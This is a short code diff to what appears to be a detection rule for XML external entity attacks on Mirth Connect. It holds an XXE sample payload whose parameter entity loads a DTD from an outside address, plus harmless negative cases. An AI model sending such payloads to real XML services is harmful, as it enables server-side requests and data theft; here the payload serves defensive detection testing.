@@ -7,9 +7,10 @@ import { MIRTH, MIRTH_CONNECT, MIRTH_FINDER } from './family';
 /** As the finder's advisory has it, with another host. */
 const EXTERNAL =
   '<?xml version="1.0"?>\n<!DOCTYPE x [\n<!ENTITY % remote SYSTEM "http://198.51.100.9/x.dtd">\n%remote;]>\n<x/>';
-/** A document type outside, and an entity inside: neither is an external entity. */
+/** A document type outside, and entities inside, in either quotes: none is an external entity. */
 const OUTER_TYPE = '<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "x.dtd">\n<x/>';
-const INNER_ENTITY = '<?xml version="1.0"?>\n<!DOCTYPE x [\n<!ENTITY a "SYSTEM">\n]>\n<x>&a;</x>';
+const INNER_ENTITY =
+  '<?xml version="1.0"?>\n<!DOCTYPE x [\n<!ENTITY a "SYSTEM">\n<!ENTITY b \'SYSTEM\'>\n]>\n<x>&a;&b;</x>';
 
 export default detection(MIRTH, {
   id: 'mirth-connect/external-entity',
